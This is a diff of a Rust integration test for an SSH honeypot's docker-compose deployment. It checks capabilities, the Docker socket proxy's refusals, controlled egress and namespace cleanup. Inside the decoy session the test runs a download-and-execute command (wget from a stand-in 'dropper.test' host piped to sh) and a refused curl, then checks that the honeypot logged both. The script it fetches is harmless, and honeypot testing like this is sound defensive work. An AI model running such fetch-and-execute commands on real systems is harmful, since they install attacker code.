@@ -1,6 +1,8 @@
 //! The production deployment: `docker-compose.yml` with Hermes's own image and the
 //! Docker socket proxy. Hermes works through the proxy (a login over SSH, metrics),
-//! runs unprivileged, and the proxy answers 403 to everything outside Hermes's list.
+//! holds only the capabilities egress needs, gives its boxes their network (egress)
+//! and leaves none of it behind, and the proxy answers 403 to everything outside
+//! Hermes's list.
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
@@ -9,8 +11,11 @@ use std::time::{Duration, Instant};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
+use serde_json::Value;
+
 use crate::client::Client;
-use crate::harness::unique_sensor;
+use crate::egress_fetch::internet::TestInternet;
+use crate::harness::{sha256_hex, unique_sensor};
 use crate::ports::{parse_published_port, published_port};
 
 const PROXY_IMAGE: &str = "hermes-socket-proxy:latest";
@@ -129,6 +134,82 @@ async fn http(port: u16, request: &str) -> (u16, String) {
     (code, body)
 }
 
+/// The events Hermes wrote so far, read from the host through its container's root.
+fn events_of(pid: &str) -> Vec<Value> {
+    std::fs::read_to_string(format!("/proc/{pid}/root/data/logs/hermes.json"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|line| serde_json::from_str(line).ok())
+        .collect()
+}
+
+/// Waits (30 s at most) for an event that `matches`.
+async fn wait_for_event(pid: &str, what: &str, matches: impl Fn(&Value) -> bool) -> Value {
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        if let Some(event) = events_of(pid).into_iter().find(|e| matches(e)) {
+            return event;
+        }
+        assert!(Instant::now() < deadline, "no event: {what}");
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    }
+}
+
+/// Everything on the host that still holds the network namespace `net:[inode]`: a
+/// process in it, a descriptor of it, a mount (`ip netns`) of it.
+fn holders_of_namespace(inode: u64) -> Vec<String> {
+    let needle = format!("net:[{inode}]");
+    let link_is = |path: &Path| {
+        std::fs::read_link(path).is_ok_and(|target| target.as_os_str() == needle.as_str())
+    };
+    let mut holders = Vec::new();
+    let Ok(processes) = std::fs::read_dir("/proc") else {
+        return vec!["/proc unreadable".to_owned()];
+    };
+    for process in processes.flatten() {
+        let dir = process.path();
+        let is_pid = process
+            .file_name()
+            .to_str()
+            .is_some_and(|name| name.bytes().all(|b| b.is_ascii_digit()));
+        if !is_pid {
+            continue;
+        }
+        if link_is(&dir.join("ns/net")) {
+            holders.push(format!("{} is in it", dir.display()));
+        }
+        for fd in std::fs::read_dir(dir.join("fd"))
+            .into_iter()
+            .flatten()
+            .flatten()
+        {
+            if link_is(&fd.path()) {
+                holders.push(format!("{} holds it", fd.path().display()));
+            }
+        }
+        if std::fs::read_to_string(dir.join("mountinfo")).is_ok_and(|m| m.contains(&needle)) {
+            holders.push(format!("{} mounts it", dir.display()));
+        }
+    }
+    holders
+}
+
+/// The capability bits of a `/proc/PID/status` line (`CapEff:`, `CapPrm:`, ...).
+fn capabilities(status: &str, line: &str) -> u64 {
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix(line))
+        .and_then(|hex| u64::from_str_radix(hex.trim(), 16).ok())
+        .unwrap_or_else(|| panic!("no {line} in {status}"))
+}
+
+/// What the compose stack grants Hermes: NET_ADMIN, SYS_ADMIN, NET_BIND_SERVICE and
+/// the boxes' own CHOWN, SETUID, SETGID (docker-compose.yml says why).
+const HERMES_CAPABILITIES: u64 = 1 << 12 | 1 << 21 | 1 << 10 | 1 | 1 << 7 | 1 << 6;
+
+/// What the box runs in the test internet's place: a script whose output shows it ran.
+const PAYLOAD: &[u8] = b"#!/bin/sh\necho fetched-through-the-compose-stack\n";
+
 fn request(method: &str, path: &str, body: &str) -> String {
     format!(
         "{method} {path} HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
@@ -142,10 +223,24 @@ async fn the_compose_stack_serves_ssh_through_the_proxy_and_the_proxy_refuses_th
     if !require_compose() {
         return;
     }
+    // The test's "internet": our web server on a Docker network of its own, the only
+    // upstream allowed, and the only name the box can resolve.
+    let internet = TestInternet::start("compose", &[("x.sh", PAYLOAD.to_vec())]);
+    let server = internet.server;
     let dir = tempfile::tempdir().expect("tempdir");
     let sensor = unique_sensor();
     let base = std::fs::read_to_string(repo().join("deploy/compose/hermes.yaml")).expect("config");
-    let config = base.replace("sensor_name: hermes", &format!("sensor_name: {sensor}"))
+    // The shipped configuration has egress on, through the proxy's engine.
+    assert!(
+        base.contains("same_host: true") && base.contains("egress:\n"),
+        "{base}"
+    );
+    let egress = format!(
+        "egress:\n  refused: reject\n  upstream_allow: [\"{server}/32\"]\n  dns:\n    static_only: true\n    static_hosts:\n      dropper.test: \"{server}\"\n"
+    );
+    let config = base
+        .replace("sensor_name: hermes", &format!("sensor_name: {sensor}"))
+        .replacen("egress:\n", &egress, 1)
         + "persona:\n  auth_failure_delay_ms: 0\nauthentication:\n  mode: static\n  static_credentials:\n    - {username: root, password: toor}\ncontainer_pool:\n  size: 1\n";
     let config_path = dir.path().join("hermes.yaml");
     std::fs::write(&config_path, config).expect("write config");
@@ -154,9 +249,10 @@ async fn the_compose_stack_serves_ssh_through_the_proxy_and_the_proxy_refuses_th
     std::fs::write(
         &override_path,
         format!(
-            "version: \"2.4\"\nservices:\n  socket-proxy:\n    ports: [\"127.0.0.1:0:2375\", \"127.0.0.1:0:2376\"]\n    networks: [docker-api, test]\n  hermes:\n    image: {}\n    volumes:\n      - {}:/etc/hermes/hermes.yaml:ro\nnetworks:\n  test: {{}}\n",
+            "version: \"2.4\"\nservices:\n  socket-proxy:\n    ports: [\"127.0.0.1:0:2375\", \"127.0.0.1:0:2376\"]\n    networks: [docker-api, test]\n  hermes:\n    image: {}\n    volumes:\n      - {}:/etc/hermes/hermes.yaml:ro\n    networks: [docker-api, public, internet]\nnetworks:\n  test: {{}}\n  internet:\n    external:\n      name: {}\n",
             hermes_image(),
-            config_path.display()
+            config_path.display(),
+            internet.network()
         ),
     )
     .expect("write override");
@@ -220,7 +316,8 @@ async fn the_compose_stack_serves_ssh_through_the_proxy_and_the_proxy_refuses_th
         tokio::time::sleep(Duration::from_millis(250)).await;
     }
 
-    // Hermes runs as uid 10001 without capabilities.
+    // Hermes runs as root with exactly the capabilities egress needs, sees the
+    // host's processes, and cannot gain more.
     let id = stack.compose(&["ps", "-q", "hermes"]);
     let id = String::from_utf8_lossy(&id.stdout).trim().to_owned();
     let pid = Command::new("docker")
@@ -230,15 +327,144 @@ async fn the_compose_stack_serves_ssh_through_the_proxy_and_the_proxy_refuses_th
     let pid = String::from_utf8_lossy(&pid.stdout).trim().to_owned();
     let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
     assert!(
-        status
-            .lines()
-            .any(|l| l.starts_with("Uid:\t10001\t10001\t10001")),
+        status.lines().any(|l| l.starts_with("Uid:\t0\t0\t0")),
         "{status}"
     );
+    assert_eq!(
+        capabilities(&status, "CapEff:"),
+        HERMES_CAPABILITIES,
+        "{status}"
+    );
+    assert_eq!(
+        capabilities(&status, "CapBnd:"),
+        HERMES_CAPABILITIES,
+        "{status}"
+    );
+    assert!(status.lines().any(|l| l == "NoNewPrivs:\t1"), "{status}");
+    let own_pid_namespace = std::fs::read_link("/proc/self/ns/pid").expect("pid namespace");
+    assert_eq!(
+        std::fs::read_link(format!("/proc/{pid}/ns/pid")).expect("pid namespace"),
+        own_pid_namespace,
+        "pid: host"
+    );
+    // The proxy, which holds the engine's socket, keeps a capability Hermes lacks:
+    // the kernel then keeps its /proc (root, namespaces) out of Hermes's reach.
+    let proxy_id = stack.compose(&["ps", "-q", "socket-proxy"]);
+    let proxy_id = String::from_utf8_lossy(&proxy_id.stdout).trim().to_owned();
+    let proxy_pid = Command::new("docker")
+        .args(["inspect", "-f", "{{.State.Pid}}", &proxy_id])
+        .output()
+        .expect("inspect");
+    let proxy_pid = String::from_utf8_lossy(&proxy_pid.stdout).trim().to_owned();
+    let proxy_status =
+        std::fs::read_to_string(format!("/proc/{proxy_pid}/status")).expect("proxy status");
+    assert_ne!(
+        capabilities(&proxy_status, "CapPrm:") & !HERMES_CAPABILITIES,
+        0,
+        "{proxy_status}"
+    );
+
+    // Egress: the box has its link, its DNS answered by Hermes, its download
+    // fetched from the test internet and kept, anything else logged and refused.
+    // This session stays open until `docker-compose down`: its box's network is up then.
+    let client = Client::login(ssh_port, "root", "toor").await;
+    let mut exec = client
+        .exec("ip -4 -o addr show dev eth0; cat /sys/class/net/eth0/address")
+        .await;
+    assert!(exec.read_to_close(Duration::from_secs(30)).await);
+    let link = exec.text();
+    assert!(link.contains("inet 10.0.2.15/24"), "{link}");
+    assert!(link.contains("\n52:54:00:"), "{link}");
+    drop(exec);
+    let mut exec = client
+        .exec("wget -q -O /tmp/x.sh http://dropper.test/x.sh && sh /tmp/x.sh")
+        .await;
+    assert!(exec.read_to_close(Duration::from_secs(60)).await);
+    assert_eq!(exec.text(), "fetched-through-the-compose-stack\n");
+    drop(exec);
+    let mut exec = client
+        .exec("curl -s -m 10 http://dropper.test:8081/x.sh; echo rc=$?")
+        .await;
+    assert!(exec.read_to_close(Duration::from_secs(30)).await);
+    assert!(exec.text().starts_with("rc="), "{}", exec.text());
+    assert_ne!(exec.text(), "rc=0\n");
+    drop(exec);
+    let dns = wait_for_event(&pid, "the DNS query of dropper.test", |e| {
+        e["eventid"] == "hermes.egress.dns"
+            && e["query"].as_str().map(|q| q.trim_end_matches('.')) == Some("dropper.test")
+            && e["type"] == "A"
+    })
+    .await;
+    assert_eq!(dns["answers"][0], server.to_string(), "{dns}");
     assert!(
-        status.lines().any(|l| l == "CapEff:\t0000000000000000"),
-        "{status}"
+        dns["session"].as_str().is_some_and(|s| !s.is_empty()),
+        "{dns}"
     );
+    let url = "http://dropper.test/x.sh";
+    let download = wait_for_event(&pid, "the download", |e| {
+        e["eventid"] == "cowrie.session.file_download" && e["url"] == url
+    })
+    .await;
+    assert_eq!(download["shasum"], sha256_hex(PAYLOAD), "{download}");
+    let outfile = download["outfile"].as_str().expect("outfile");
+    assert_eq!(
+        std::fs::read(format!("/proc/{pid}/root{outfile}")).expect("stored file"),
+        PAYLOAD
+    );
+    let server_ip = server.to_string();
+    let refused = wait_for_event(&pid, "the refused connection", |e| {
+        e["eventid"] == "hermes.egress.connection"
+            && e["dst_ip"] == server_ip.as_str()
+            && e["dst_port"] == 8081
+    })
+    .await;
+    assert_eq!(refused["answer"], "reject", "{refused}");
+    let (requests, _) = internet.stats();
+    assert_eq!(requests, ["/x.sh"], "the server saw the fetch, and only it");
+
+    // The box's gateway namespace is Hermes's own: in its container (/run/netns
+    // there), not among the host's named namespaces, and no link of it on the host.
+    let session = dns["session"].clone();
+    let container = wait_for_event(&pid, "the allocation", |e| {
+        e["eventid"] == "hermes.container.allocate" && e["session"] == session
+    })
+    .await;
+    let container = container["container_id"].as_str().expect("container id");
+    let gateway = format!("hermes-{}-{}", stack.sensor, &container[..12]);
+    let listed = Command::new("nsenter")
+        .args(["-t", &pid, "-m", "ip", "netns", "list"])
+        .output()
+        .expect("nsenter");
+    let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
+    assert!(listed.contains(&gateway), "{listed}");
+    assert!(!Path::new("/run/netns").join(&gateway).exists());
+    let held = Path::new(&format!("/proc/{pid}/root/run/netns")).join(&gateway);
+    let inode = {
+        use std::os::unix::fs::MetadataExt;
+        std::fs::metadata(&held)
+            .expect("the gateway namespace")
+            .ino()
+    };
+    let gateway_links = Command::new("nsenter")
+        .arg(format!("--net={}", held.display()))
+        .args(["ip", "-o", "link", "show", "gw0"])
+        .output()
+        .expect("nsenter");
+    let gateway_links = String::from_utf8_lossy(&gateway_links.stdout).into_owned();
+    let gateway_mac = gateway_links
+        .split_whitespace()
+        .skip_while(|w| *w != "link/ether")
+        .nth(1)
+        .unwrap_or_else(|| panic!("gw0: {gateway_links}"))
+        .to_owned();
+    let host_links = || {
+        let output = Command::new("ip")
+            .args(["-o", "link"])
+            .output()
+            .expect("ip");
+        String::from_utf8_lossy(&output.stdout).into_owned()
+    };
+    assert!(!host_links().contains(&gateway_mac), "{gateway_mac}");
 
     // The proxy: what Hermes uses goes through, the rest is 403.
     assert_eq!(http(proxy_port, &request("GET", "/_ping", "")).await.0, 200);
@@ -334,6 +560,20 @@ async fn the_compose_stack_serves_ssh_through_the_proxy_and_the_proxy_refuses_th
         body.contains("No such exec instance") && !body.contains("KernelVersion"),
         "{body}"
     );
+
+    // `docker-compose down`: nothing of the box's network is left on the host, no
+    // process, descriptor or mount holds its gateway namespace.
+    assert!(!holders_of_namespace(inode).is_empty(), "held while up");
+    let down = stack.compose(&["down", "-t", "30"]);
+    assert!(
+        down.status.success(),
+        "{}",
+        String::from_utf8_lossy(&down.stderr)
+    );
+    assert_eq!(holders_of_namespace(inode), Vec::<String>::new());
+    assert!(!host_links().contains(&gateway_mac), "{gateway_mac}");
+    assert!(!Path::new("/run/netns").join(&gateway).exists());
+    drop(client);
     drop(stack);
 }
 
